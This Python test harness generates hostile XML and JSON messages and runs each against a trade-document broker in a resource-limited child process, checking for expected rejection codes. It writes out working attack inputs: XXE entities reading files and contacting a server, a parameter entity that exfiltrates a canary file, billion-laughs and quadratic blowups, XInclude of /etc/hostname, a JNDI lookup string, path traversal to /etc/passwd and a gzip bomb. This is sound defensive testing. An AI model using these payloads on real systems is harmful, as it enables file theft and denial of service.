"""A corpus of hostile messages, made by code, and a runner that gives each one a process of its own.

Run as a script it prints one JSON object per case: name, how the process ended, findings, memory, seconds.
"""

from __future__ import annotations

import gzip
import json
import os
import resource
import signal
import sys
import time
from dataclasses import dataclass
from itertools import pairwise
from typing import TYPE_CHECKING

from tests.support.paths import ROOT

if TYPE_CHECKING:
    from collections.abc import Callable

SAMPLES = ROOT / "mappings" / "documents" / "origin" / "aladi-cod-1.8" / "samples"
SOAP = "http://www.w3.org/2001/12/soap-envelope"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
MB = 1024 * 1024
ADDRESS_SPACE = 2048 * MB
SECONDS = 60
CANARY = "canary-5f1d0c"
"""A text in a file that hostile documents ask for: it must never come back."""


@dataclass(frozen=True)
class Case:
    """What is sent, and the finding codes of which one must come back; with a dot at its end any that begins so."""

    name: str
    make: Callable[[], bytes]
    codes: tuple[str, ...]


CASES: list[Case] = []


def case(*codes: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """The function below it makes one case, named after it."""

    def add(make: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES.append(Case(make.__name__.strip("_").replace("_", "-"), make, codes))
        return make

    return add


def cases(codes: tuple[str, ...], contents: dict[str, bytes]) -> None:
    """Many small cases that need no function of their own."""
    for name, content in contents.items():
        CASES.append(Case(name, lambda content=content: content, codes))


def good() -> str:
    """A document that is accepted, as text without its declaration."""
    return (SAMPLES / "a18-complete.xml").read_text("utf-8").partition("?>\n")[2]


def with_text(name: str, value: str) -> bytes:
    """The good document with another text in its first element of that name."""
    start, _, rest = good().partition(f"<{name}>")
    return f"{start}<{name}>{value}</{name}>{rest.partition(f'</{name}>')[2]}".encode()


def doctype(subset: str, content: str | None = None) -> bytes:
    """The good document behind a document type declaration."""
    return f'<?xml version="1.0"?>\n<!DOCTYPE ns1:Envelope {subset}>\n{content or good()}'.encode()


def canary() -> str:
    return os.environ.get("HOSTILE_CANARY", "/nonexistent/canary.txt")


def server() -> str:
    return os.environ.get("HOSTILE_SERVER", "http://127.0.0.1:9")


# --- document types and entities ---------------------------------------------------------------------------------


def _entity(declarations: str, use: str = "&e;") -> bytes:
    return doctype(f"[{declarations}]", good().replace("Mangas frescas", use))


@case("content.doctype")
def doctype_alone() -> bytes:
    return doctype("")


@case("content.doctype")
def doctype_after_bom() -> bytes:
    return b"\xef\xbb\xbf" + doctype("")


@case("content.doctype")
def doctype_in_utf_16() -> bytes:
    return doctype("").decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")


@case("content.encoding", "content.doctype")
def doctype_hidden_in_utf_7() -> bytes:
    return b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4APA-a/+AD4-'


@case("content.doctype")
def doctype_of_a_file() -> bytes:
    return doctype(f'SYSTEM "file://{canary()}"')


@case("content.doctype")
def doctype_of_the_network() -> bytes:
    return doctype(f'PUBLIC "-//X//DTD X//EN" "{server()}/x.dtd"')


@case("content.doctype")
def entity_inside() -> bytes:
    return _entity('<!ENTITY e "Mangas">')


@case("content.doctype")
def entity_of_a_file() -> bytes:
    return _entity(f'<!ENTITY e SYSTEM "file://{canary()}">')


@case("content.doctype")
def entity_of_the_network() -> bytes:
    return _entity(f'<!ENTITY e SYSTEM "{server()}/e">')


@case("content.doctype")
def entity_of_markup() -> bytes:
    return _entity('<!ENTITY e "&#60;Goods/&#62;">')


@case("content.doctype")
def parameter_entity() -> bytes:
    return _entity("<!ENTITY % p \"<!ENTITY e 'x'>\"> %p;")


@case("content.doctype")
def parameter_entity_of_a_file() -> bytes:
    return _entity(f'<!ENTITY % p SYSTEM "file://{canary()}"> %p;', "x")


@case("content.doctype")
def parameter_entity_of_the_network() -> bytes:
    return _entity(f'<!ENTITY % p SYSTEM "{server()}/p"> %p;', "x")


@case("content.doctype")
def parameter_entity_that_sends_a_file_away() -> bytes:
    sends = f"<!ENTITY &#37; s SYSTEM '{server()}/?%f;'>"
    return _entity(f'<!ENTITY % f SYSTEM "file://{canary()}"> <!ENTITY % d "{sends}"> %d; %s;', "x")


@case("content.doctype")
def billion_laughs() -> bytes:
    names = [f"l{n}" for n in range(12)]
    laughs = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(names))
    return _entity(f'<!ENTITY l0 "ha">{laughs}', "&l11;")


@case("content.doctype")
def laughs_in_an_attribute() -> bytes:
    names = [f"l{n}" for n in range(12)]
    laughs = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(names))
    return doctype(f'[<!ENTITY l0 "ha">{laughs}]', good().replace('id="COD"', 'id="&l11;"'))


@case("content.doctype")
def quadratic_blow_up() -> bytes:
    return _entity(f'<!ENTITY e "{"a" * 100_000}">', "&e;" * 50_000)


@case("content.doctype")
def entity_that_holds_itself() -> bytes:
    return _entity('<!ENTITY e "&f;"><!ENTITY f "&e;">')


@case("content.doctype")
def entity_that_nobody_declared() -> bytes:
    return with_text("GoodsItemName", "&secret;")


@case("content.doctype")
def attribute_by_default() -> bytes:
    return doctype('[<!ATTLIST COD id CDATA "EVIL">]')


@case("content.doctype")
def unparsed_entity() -> bytes:
    return doctype(f'[<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "file://{canary()}" NDATA n>]')


@case("content.doctype")
def standalone_with_entity() -> bytes:
    return _entity(f'<!ENTITY e SYSTEM "file://{canary()}">').replace(b'"1.0"?', b'"1.0" standalone="yes"?')


# --- encodings ---------------------------------------------------------------------------------------------------


def _declared(encoding: str, written: str | None = None, text: str | None = None) -> bytes:
    head = f'<?xml version="1.0" encoding="{encoding}"?>\n'
    return (head + (text or good())).encode(written or encoding, "replace")


@case("content.encoding")
def utf_7() -> bytes:
    return b'<?xml version="1.0" encoding="UTF-7"?>' + good().encode("utf-7")


@case("content.encoding", "content.not-xml")
def utf_32_with_mark() -> bytes:
    return ('<?xml version="1.0" encoding="UTF-32"?>' + good()).encode("utf-32")


@case("content.encoding", "content.not-xml")
def utf_32_big_without_mark() -> bytes:
    return good().encode("utf-32-be")


@case("content.encoding", "content.not-xml")
def ebcdic() -> bytes:
    return ('<?xml version="1.0" encoding="IBM037"?>' + good()).encode("cp037", "replace")


@case("content.encoding")
def shift_jis() -> bytes:
    return _declared("Shift_JIS")


@case("content.encoding")
def windows_1252() -> bytes:
    return _declared("windows-1252")


@case("content.encoding")
def iso_2022_jp() -> bytes:
    return _declared("ISO-2022-JP")


@case("content.encoding")
def encoding_that_does_not_exist() -> bytes:
    return _declared("x-evil", "utf-8")


@case("content.encoding", "content.not-xml", "content.too-large")
def encoding_with_a_long_name() -> bytes:
    return _declared("A" * 100_000, "utf-8")


@case("content.encoding", "content.not-xml")
def latin_1_that_says_utf_8() -> bytes:
    return _declared("UTF-8", "iso-8859-1")


@case("content.encoding", "content.not-xml")
def utf_8_that_says_utf_16() -> bytes:
    return _declared("UTF-16", "utf-8") + b"\xff"


@case("content.not-xml", "content.encoding")
def mark_of_utf_16_before_utf_8() -> bytes:
    return b"\xff\xfe" + good().encode()


@case("content.not-xml", "content.encoding")
def utf_16_cut_in_a_character() -> bytes:
    return good().encode("utf-16")[:-1]


@case("content.not-xml", "content.encoding")
def utf_16_with_half_a_pair() -> bytes:
    return good().replace("Mangas", "\ud800", 1).encode("utf-16", "surrogatepass")


cases(
    ("content.not-xml", "content.encoding"),
    {
        "overlong-slash": with_text("GoodsItemName", "@").replace(b"@", b"\xc0\xaf", 1),
        "overlong-less-than": with_text("GoodsItemName", "@").replace(b">@<", b">\xe0\x80\xbc<", 1),
        "surrogate-in-utf-8": with_text("GoodsItemName", "@").replace(b">@<", b">\xed\xa0\x80<", 1),
        "five-byte-sequence": with_text("GoodsItemName", "@").replace(b">@<", b">\xf8\x88\x80\x80\x80<", 1),
        "cut-utf-8-sequence": with_text("GoodsItemName", "@").replace(b">@<", b">\xc3<", 1),
        "nul-in-text": with_text("GoodsItemName", "a\0b"),
        "nul-at-the-end": good().encode() + b"\0\0\0",
        "nul-first": b"\0" + good().encode(),
        "control-character": with_text("GoodsItemName", "\x01\x08"),
        "character-fffe": with_text("GoodsItemName", "\ufffe"),
        "reference-to-nul": with_text("GoodsItemName", "&#0;"),
        "reference-beyond-unicode": with_text("GoodsItemName", "&#x110000;"),
        "reference-to-a-surrogate": with_text("GoodsItemName", "&#xD800;"),
        "reference-of-many-digits": with_text("GoodsItemName", f"&#{'9' * 5000};"),
        "two-byte-order-marks": b"\xef\xbb\xbf\xef\xbb\xbf" + good().encode(),
        "mark-inside-a-tag": good().encode().replace(b"<CODVer>", b"<\xef\xbb\xbfCODVer>"),
    },
)


# --- size and shape ----------------------------------------------------------------------------------------------


@case("content.depth")
def depth_300() -> bytes:
    return b"<a>" * 300 + b"</a>" * 300


@case("content.depth")
def depth_5_000() -> bytes:
    return b"<a>" * 5_000 + b"</a>" * 5_000


@case("content.depth")
def depth_never_closed() -> bytes:
    return b"<a>" * MB


@case("content.depth")
def depth_inside_a_good_document() -> bytes:
    return with_text("GoodsItemName", "<b>" * 400 + "</b>" * 400)


@case("content.too-large")
def size_17_mb() -> bytes:
    return b"<a>" + b"x" * (17 * MB) + b"</a>"


@case("content.too-large")
def size_one_byte_too_many() -> bytes:
    body = good().encode()
    return body + b" " * (16 * MB + 1 - len(body))


@case("content.too-large", "content.empty")
def spaces_17_mb() -> bytes:
    return b" " * (17 * MB)


@case("content.too-large")
def text_11_mb() -> bytes:
    return with_text("GoodsItemName", "x" * (11 * MB))


@case("content.too-large")
def attribute_11_mb() -> bytes:
    return good().replace('id="COD"', f'id="{"x" * (11 * MB)}"').encode()


@case("content.too-large")
def comment_11_mb() -> bytes:
    return good().encode() + b"<!--" + b"x" * (11 * MB) + b"-->"


@case("content.too-large")
def instruction_11_mb() -> bytes:
    return good().encode() + b"<?x " + b"x" * (11 * MB) + b"?>"


@case("content.too-large")
def cdata_11_mb() -> bytes:
    return with_text("GoodsItemName", f"<![CDATA[{'x' * (11 * MB)}]]>")


@case("content.too-large", "content.not-xml")
def element_name_of_1_mb() -> bytes:
    return b"<" + b"n" * MB + b"/>"


@case("content.too-large")
def a_million_elements() -> bytes:
    return b"<r>" + b"<a/>" * 1_000_000 + b"</r>"


@case("content.too-large")
def a_million_elements_in_a_good_document() -> bytes:
    return with_text("GoodsItemName", "<b/>" * 1_000_000)


@case("content.too-large")
def as_many_elements_as_fit() -> bytes:
    return b"<r>" + b"<a/>" * ((16 * MB - 7) // 4) + b"</r>"


@case("content.too-large")
def as_many_elements_as_fit_in_a_good_document() -> bytes:
    return with_text("GoodsItemName", "<b/>" * (16 * MB // 4 - 2000))


def with_goods(goods: str) -> bytes:
    """A good certificate with more goods at the end of its list."""
    return good().replace("</GoodsList>", f"{goods}</GoodsList>").encode()


@case("content.too-large")
def wrong_goods_30_000() -> bytes:
    return with_goods('<Goods wrong="1"/>' * 30_000)


@case("schema.")
def wrong_goods_as_many_as_fit_in_one_place() -> bytes:
    return with_goods('<Goods wrong="1"/>' * 4_990)


@case("schema.")
def wrong_elements_as_many_as_fit_in_all() -> bytes:
    return with_goods(("<Goods>" + '<x wrong="1"/>' * 4_000 + "</Goods>") * 37)


@case("schema.")
def wrong_attributes_as_many_as_fit_in_all() -> bytes:
    item = good()[good().index("<Goods>") : good().index("</Goods>") + 8]
    return with_goods(item.replace("<GoodsItemName>", '<GoodsItemName wrong="1">') * 4_900)


@case("type.unknown")
def attributes_100_000() -> bytes:
    return b"<r " + b" ".join(b'a%d="1"' % n for n in range(100_000)) + b"/>"


@case("schema.")
def attributes_100_000_in_a_good_document() -> bytes:
    many = " ".join(f'a{n}="1"' for n in range(100_000))
    return good().replace('<COD id="COD"', f'<COD {many} id="COD"').encode()


@case("type.unknown")
def namespaces_100_000() -> bytes:
    return b"<r " + b" ".join(b'xmlns:n%d="urn:%d"' % (n, n) for n in range(100_000)) + b"/>"


@case("content.too-large")
def names_all_different() -> bytes:
    return b"<r>" + b"".join(b"<n%d/>" % n for n in range(300_000)) + b"</r>"


@case("content.too-large")
def faults_without_number() -> bytes:
    return with_text("GoodsQty", "x").replace(b"<Goods>", b"<Goods/>" * 200_000 + b"<Goods>", 1)


@case("content.too-large")
def goods_without_number() -> bytes:
    text = good()
    one = text[text.index("<Goods>") : text.index("</Goods>") + len("</Goods>")]
    return text.replace(one, one * 30_000, 1).encode()


@case("content.too-large")
def goods_times_invoices() -> bytes:
    text = good()
    one = text[text.index("<Goods>") : text.index("</Goods>") + len("</Goods>")]
    bill = text[text.index("<Invoice>") : text.index("</Invoice>") + len("</Invoice>")]
    return text.replace(one, one * 900, 1).replace(bill, bill * 50_000, 1).encode()


@case("content.not-xml", "type.unknown")
def instructions_without_number() -> bytes:
    return b"<?x y?>" * 500_000 + b"<r/>"


@case("type.unknown")
def comments_without_number() -> bytes:
    return b"<!--x-->" * 500_000 + b"<r/>"


# --- not XML -----------------------------------------------------------------------------------------------------

cases(
    ("content.empty", "content.not-xml"),
    {
        "empty": b"",
        "white-space": b" \r\n\t" * 1000,
        "mark-alone": b"\xef\xbb\xbf",
        "mark-and-white-space": b"\xef\xbb\xbf \n",
        "utf-16-white-space": "  \n".encode("utf-16"),
        "nul-bytes": b"\0" * 1000,
    },
)
cases(
    ("content.not-xml", "content.not-json", "content.encoding", "type.unknown"),
    {
        "json-object": b'{"certificate": {"id": "AR1"}}',
        "json-list": b"[]",
        "json-text": b'"<a/>"',
        "json-never-closed": b"[" * 1_000_000,
        "json-of-another-kind": b'{"a": NaN, "a": 1e999999999}',
        "number": b"1",
        "junk": bytes((n * 7919 + n // 3) % 256 for n in range(20_000)),
        "gzip": gzip.compress(good().encode(), mtime=0),
        "gzip-bomb": gzip.compress(b"<a>" + b"x" * (20 * MB), mtime=0),
        "zip-head": b"PK\x03\x04" + b"\x14\0\0\0" * 50,
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\n",
        "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
        "html": b"<html><head><meta charset=utf-8><body><p>Hola<br></html>",
        "edifact": b"UNA:+.? 'UNB+UNOC:3+AR+UY+240507:0924+1'UNH+1+GOVCBR:D:13A:UN'",
        "csv": b"id;country\nAR1;AR\n",
        "base64": b"PD94bWwgdmVyc2lvbj0iMS4wIj8+PGEvPg==",
        "mail-head": b"Content-Type: text/xml\r\n\r\n<a/>",
        "text-before-the-root": b"hello <a/>",
        "only-a-declaration": b'<?xml version="1.0"?>',
        "only-a-comment": b"<!-- nothing -->",
        "only-less-than": b"<",
        "pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x07os.path\x94.",
    },
)


def _truncated() -> dict[str, bytes]:
    content = b'<?xml version="1.0" encoding="UTF-8"?>\n' + good().encode()
    points = {f"truncated-at-{n}": n for n in (1, 3, 20, 45, 100, 300, 1000, 2500, len(content) - 20, len(content) - 3)}
    points["truncated-in-a-character"] = content.index("ç".encode()) + 1
    return {name: content[:at] for name, at in points.items()}


cases(("content.not-xml", "content.encoding"), _truncated())


# --- JSON ---------------------------------------------------------------------------------------------------------


def good_json() -> str:
    """A JSON certificate that is accepted."""
    folder = SAMPLES.parent.parent / "tradetrust-coo-1" / "samples"
    return (folder / "plain-au-sg.json").read_text("utf-8")


def json_with(old: str, new: str) -> bytes:
    content = good_json()
    assert old in content
    return content.replace(old, new, 1).encode("utf-8", "surrogatepass")


@case("content.too-large")
def json_of_17_mb() -> bytes:
    return b'{"a": "' + b"x" * (17 * MB) + b'"}'


@case("content.not-json")
def json_of_a_million_members() -> bytes:
    return b'{"a": [' + b",".join([b"0"] * 1_000_000) + b"]}"


@case("content.not-json", "type.unknown", "content.too-large")
def json_of_100_000_keys() -> bytes:
    return b"{" + b",".join(b'"k%d": 1' % n for n in range(100_000)) + b"}"


@case("schema.", "TTC-02", "content.too-large")
def json_lines_without_number() -> bytes:
    line = '{"sequenceNumber": 1, "tradeProduct": {"description": "x"}}'
    return json_with('"tradeLineItems": [', f'"tradeLineItems": [{f"{line}, " * 20_000}')


@case("schema.", "content.too-large")
def json_faults_without_number() -> bytes:
    return json_with('"tradeLineItems": [', f'"tradeLineItems": [{"{}, " * 140_000}')


cases(
    ("content.not-json",),
    {
        "json-cut-in-a-text": b'{"a": "b',
        "json-cut-in-an-escape": b'{"a": "\\u00',
        "json-key-twice": json_with('"iD": "ejemplo', '"iD": "1", "iD": "ejemplo'),
        "json-with-a-comment": b'{/* a */ "a": 1}',
        "json-with-a-trailing-comma": b'{"a": 1,}',
        "json-with-single-quotes": b"{'a': 1}",
        "json-with-more-behind": b'{"a": 1} {"b": 2}',
        "json-with-infinity": b'{"a": Infinity}',
        "json-with-a-hexadecimal-number": b'{"a": 0x10}',
        "json-with-a-leading-zero": b'{"a": 01}',
        "json-in-utf-16": '{"a": 1}'.encode("utf-16-le"),
        "json-in-latin-1": '{"a": "ñ"}'.encode("iso-8859-1"),
        "json-with-half-a-pair": b'{"a": "\\ud800"}',
        "json-with-an-escaped-nul": b'{"a": "\\u0000"}',
        "json-with-a-raw-line-break": b'{"a": "b\nc"}',
        "json-deep-objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "json-of-colons": b"{::::}",
    },
)
cases(
    ("type.unknown", "content.not-json"),
    {
        "json-empty-object": b"{}",
        "json-empty-key": b'{"": 1}',
        "json-keys-that-are-markup": b'{"<a>": 1, "]]>": 2, "_x0040_": 3, "a b": 4}',
        "json-key-of-1-mb": b'{"' + b"k" * MB + b'": 1}',
        "json-prototype": b'{"__proto__": {"a": 1}, "constructor": 1}',
        "json-of-another-credential": b'{"credentialSubject": {"id": "did:example:1"}}',
        "json-credential-in-credential": b'{"credentialSubject": ' * 40 + b"{}" + b"}" * 40,
        "json-envelope-of-a-text": b'{"credentialSubject": "text"}',
        "json-envelope-of-null": b'{"credentialSubject": null, "data": null}',
    },
)
cases(
    ("schema.", "mapping.", "content."),
    {
        "json-number-of-10-000-digits": json_with('"sequenceNumber": 1', f'"sequenceNumber": {"9" * 10_000}'),
        "json-number-with-a-large-exponent": json_with('"sequenceNumber": 1', '"sequenceNumber": 1e999999999'),
        "json-number-with-a-small-exponent": json_with('"sequenceNumber": 1', '"sequenceNumber": 1e-999999999'),
        "json-text-for-a-number": json_with('"sequenceNumber": 1', '"sequenceNumber": "1"'),
        "json-number-for-a-text": json_with('"iD": "ejemplo-vinos:coo:2024-00071"', '"iD": 5'),
        "json-null-for-an-object": json_with('"tradeProduct": {', '"tradeProduct": null, "x": {'),
        "json-list-for-an-object": json_with('"supplyChainConsignment": {', '"supplyChainConsignment": [], "x": {'),
        "json-date-in-words": json_with('"2024-06-03T00:46:34Z"', '"yesterday"'),
    },
)


# --- not well-formed, or a trick with names ----------------------------------------------------------------------

cases(
    ("content.not-xml",),
    {
        "two-roots": b"<a/><b/>",
        "two-documents": good().encode() * 2,
        "text-after-the-root": good().encode() + b"trailing",
        "attribute-twice": good().replace('id="COD"', 'id="COD" id="COD"').encode(),
        "attribute-twice-by-namespace": b'<a xmlns:p="urn:x" xmlns:q="urn:x" p:i="1" q:i="2"/>',
        "prefix-not-declared": b"<p:a/>",
        "attribute-prefix-not-declared": good().replace('id="COD"', 'p:x="1" id="COD"').encode(),
        "two-declarations": b'<?xml version="1.0"?><?xml version="1.0"?><a/>',
        "declaration-late": b'<a><?xml version="1.0"?></a>',
        "declaration-without-version": b'<?xml encoding="UTF-8"?><a/>',
        "comment-never-closed": good().encode() + b"<!-- ",
        "comment-with-two-hyphens": good().replace("<CODVer>", "<!-- a -- b --><CODVer>").encode(),
        "cdata-never-closed": with_text("GoodsItemName", "<![CDATA[x"),
        "cdata-outside-the-root": b"<![CDATA[x]]><a/>",
        "cdata-end-in-text": with_text("GoodsItemName", "a]]>b"),
        "less-than-in-an-attribute": b'<a b="<"/>',
        "attribute-without-quotes": b"<a b=1/>",
        "closing-tag-of-another-case": b"<Goods></goods>",
        "crossed-tags": b"<a><b></a></b>",
        "prefix-bound-to-nothing": b'<a xmlns:p=""/>',
        "prefix-xml-bound-anew": b'<a xmlns:xml="urn:x"/>',
        "prefix-xmlns-declared": b'<a xmlns:xmlns="urn:x"/>',
        "name-with-two-colons": b"<a:b:c xmlns:a='urn:a'/>",
        "name-that-starts-with-a-digit": b"<1a/>",
        "bare-ampersand": with_text("GoodsItemName", "a & b"),
    },
)
cases(
    ("type.unknown", "content.not-xml"),
    {
        "unknown-root": b"<certificate/>",
        "known-root-without-namespace": good().replace(f' xmlns:ns1="{SOAP}"', "").replace("ns1:", "").encode(),
        "known-root-in-another-namespace": good().replace(SOAP, "http://schemas.xmlsoap.org/soap/envelope/").encode(),
        "namespace-with-a-blank": good().replace(SOAP, f" {SOAP}").encode(),
        "namespace-in-capitals": good().replace(SOAP, SOAP.upper()).encode(),
        "envelope-with-nothing": f'<s:Envelope xmlns:s="{SOAP}"/>'.encode(),
        "envelope-with-text": f'<s:Envelope xmlns:s="{SOAP}">hello</s:Envelope>'.encode(),
        "envelope-of-a-stranger": f'<s:Envelope xmlns:s="{SOAP}"><s:Body><a/></s:Body></s:Envelope>'.encode(),
        "envelopes-50-deep": (f'<s:Envelope xmlns:s="{SOAP}">' * 50 + "</s:Envelope>" * 50).encode(),
        "version-2": b'<?xml version="2.0"?><a/>',
        "include-as-root": b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>',
        "stylesheet-as-root": b'<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"/>',
        "schema-as-root": b'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"/>',
        "metadata-in-metadata": b'<MetaData xmlns="urn:wco:datamodel:WCO:DocumentMetaData-DMS:2">' * 8
        + b"</MetaData>" * 8,
    },
)


# --- a good document with something in it ------------------------------------------------------------------------


@case("schema.")
def include_of_a_file() -> bytes:
    include = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="file://{canary()}"/>'
    return with_text("GoodsItemName", include)


@case("schema.")
def include_of_the_network() -> bytes:
    return with_text("GoodsItemName", f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{server()}/i"/>')


def _on_root(attributes: str) -> bytes:
    text = with_text("GoodsQty", "none").decode()
    return text.replace("<ns1:Envelope", f'<ns1:Envelope xmlns:i="{XSI}" {attributes}').encode()


@case("schema.")
def schema_location_of_a_file() -> bytes:
    return _on_root(f'i:schemaLocation="{SOAP} file://{canary()}"')


@case("schema.")
def schema_location_of_the_network() -> bytes:
    return _on_root(f'i:schemaLocation="{SOAP} {server()}/s.xsd" i:noNamespaceSchemaLocation="{server()}/n.xsd"')


@case("schema.")
def schema_location_inside() -> bytes:
    mark = f'<CODEH xmlns:i="{XSI}" i:noNamespaceSchemaLocation="{server()}/n.xsd" '
    return good().replace("<CODEH ", mark).replace("<GoodsQty>", "<GoodsQty>x").encode()


@case("schema.")
def unknown_xsi_type() -> bytes:
    return good().replace("<CODVer>", f'<CODVer xmlns:i="{XSI}" xmlns:z="urn:z" i:type="z:Evil">').encode()


@case("schema.")
def xsi_type_of_anything() -> bytes:
    anything = f'<Goods xmlns:i="{XSI}" xmlns:xs="http://www.w3.org/2001/XMLSchema" i:type="xs:anyType">'
    return good().replace("<Goods>", anything, 1).encode()


@case("schema.")
def xsi_nil() -> bytes:
    return with_text("GoodsItemName", "").replace(
        b"<GoodsItemName>", f'<GoodsItemName xmlns:i="{XSI}" i:nil="1">'.encode()
    )


@case("schema.")
def good_document_of_the_wrong_case() -> bytes:
    return good().replace("GoodsList>", "goodslist>").encode()


cases(
    ("schema.",),
    {
        "number-of-a-million-digits": with_text("GoodsItemWeightAmount", "9" * 1_000_000),
        "number-with-a-million-zeros": with_text("GoodsItemWeightAmount", f"1.{'0' * 1_000_000}1"),
        "number-in-words-of-floats": with_text("GoodsItemWeightAmount", "NaN"),
        "number-with-exponent": with_text("GoodsItemWeightAmount", "1e999999999"),
        "number-of-arabic-digits": with_text("GoodsItemWeightAmount", "١٢٣"),
        "number-with-comma": with_text("GoodsItemWeightAmount", "1,5"),
        "number-with-a-zero-width-space": with_text("GoodsItemWeightAmount", "1\u200b5"),
        "date-of-the-thirteenth-month": with_text("DeclarationDate", "2024-13-01T00:00:00"),
        "date-in-words": with_text("DeclarationDate", "Thu Mar 14 10:00:00 ART 2024"),
        "country-in-small-letters": with_text("ExporterCountry", "ar"),
        "country-with-a-line-break": with_text("ExporterCountry", "AR\n"),
        "mail-of-at-signs": with_text("EHEmail", "@" * 100_000),
        "telephone-of-digits": with_text("EHTelephone", "1" * 100_000),
        "telephone-of-brackets": with_text("EHTelephone", "(" * 100_000 + "x"),
        "letters-with-marks": with_text("EHName", "e" + "\u0301" * 500_000),
        "spaces-of-9-mb": with_text("EHName", " " * (9 * MB)),
        "markup-in-text": with_text("GoodsItemName", "&lt;script&gt;" * 200),
        "path-as-a-number": with_text("CertificateID", "../../../../etc/passwd"),
        "format-text": with_text("CertificateID", "%s%n{0.__class__}${jndi:ldap://127.0.0.1/a}"),
        "injected-row": with_text("AgreementAcronym", "A18'] | //*['"),
    },
)


cases(("value.too-long",), {"ordinal-of-10-000-digits": with_text("GoodsOrderNo", "9" * 10_000)})
cases(("COD-06", "schema."), {"date-of-a-far-year": with_text("DeclarationDate", "999999999999-01-01T00:00:00")})


# --- envelopes that carry text -----------------------------------------------------------------------------------

HUB = "http://ephyto.ippc.int/hub"


def carried(text: str) -> bytes:
    """A message inside the text of the first envelope of the catalogue that carries text, whatever it is called."""
    from broker.catalogue import load  # noqa: PLC0415 -- the envelopes are data of the catalogue

    envelope = next((e for e in load().envelopes if e.form == "text"), None)
    if envelope is None:
        return b"<no-envelope-carries-text/>"
    namespace, _, local = envelope.root[1:].partition("}")
    steps = [step.rpartition(":") for step in envelope.content.strip("/").split("/") if step not in {"", "."}]
    opening = "".join(f'<{name} xmlns="{envelope.namespaces.get(prefix, "")}">' for prefix, _, name in steps)
    closing = "".join(f"</{name}>" for _, _, name in reversed(steps))
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<{local} xmlns="{namespace}">{opening}{escaped}{closing}</{local}>'.encode()


@case("content.doctype")
def carried_entity_bomb() -> bytes:
    return carried(billion_laughs().decode())


@case("content.doctype")
def carried_entity_of_a_file() -> bytes:
    return carried(entity_of_a_file().decode())


@case("content.depth")
def carried_depth() -> bytes:
    return carried("<a>" * 5_000 + "</a>" * 5_000)


@case("content.")
def carried_junk() -> bytes:
    return carried("%PDF-1.7 nothing that is XML")


@case("content.", "type.unknown")
def carried_nothing() -> bytes:
    return carried("")


@case("type.unknown")
def carried_envelope_in_envelope() -> bytes:
    content = carried("<a/>")
    for _ in range(8):
        content = carried(content.decode())
    return content


@case("content.", "schema.", "type.unknown")
def carried_characters_that_xml_forbids() -> bytes:
    return carried(good().replace("Mangas", "&#1;", 1))


# --- the runner --------------------------------------------------------------------------------------------------


def run(one: Case, catalogue: object) -> dict[str, object]:
    """What became of the case in a process of its own, with little address space and little time."""
    reading, writing = os.pipe()
    started = time.monotonic()
    child = os.fork()
    if child == 0:
        os.close(reading)
        code = 70
        try:
            os.write(writing, json.dumps(_in_child(one, catalogue)).encode())
            code = 0
        finally:
            os._exit(code)
    os.close(writing)
    with os.fdopen(reading, "rb") as pipe:
        text = pipe.read()
    _, status, usage = os.wait4(child, 0)
    result = json.loads(text) if text else {}
    return {
        "name": one.name,
        "exit": os.waitstatus_to_exitcode(status),
        "seconds": round(time.monotonic() - started, 3),
        "mb": usage.ru_maxrss // 1024,
        **result,
    }


def _in_child(one: Case, catalogue: object) -> dict[str, object]:
    from broker.line.process import process  # noqa: PLC0415 -- loaded before the fork
    from broker.model.documents import Message  # noqa: PLC0415
    from broker.model.ids import NO_MESSAGE_ID  # noqa: PLC0415

    content = one.make()
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))
    resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
    signal.alarm(2 * SECONDS)
    before = resource.getrusage(resource.RUSAGE_SELF)
    try:
        outcome = process(Message(NO_MESSAGE_ID, content), catalogue)
    except BaseException as error:  # noqa: BLE001 -- whatever it is, it is the result
        return {"raised": f"{type(error).__name__}: {error}"[:500]}
    after = resource.getrusage(resource.RUSAGE_SELF)
    return {
        "accepted": outcome.is_accepted,
        "bytes": len(content),
        "cpu": round(after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime, 3),
        "grown_mb": (after.ru_maxrss - before.ru_maxrss) // 1024,
        "codes": sorted({f.code for f in outcome.findings if f.is_error}),
        "count": len(outcome.findings),
        "findings": [
            {"code": f.code, "message": f.message[:1000], "severity": f.severity, "pointer": f.pointer, "line": f.line}
            for f in outcome.findings[:50]
        ],
        "payload": outcome.payload.content.decode() if outcome.payload else "",
    }


def main(names: list[str]) -> None:
    from broker import catalogue as catalogues  # noqa: PLC0415 -- after the arguments

    catalogue = catalogues.load()
    catalogues.warm(catalogue)
    for one in CASES:
        if not names or one.name in names:
            print(json.dumps(run(one, catalogue)), flush=True)  # noqa: T201 -- this is its output


if __name__ == "__main__":
    main(sys.argv[1:])
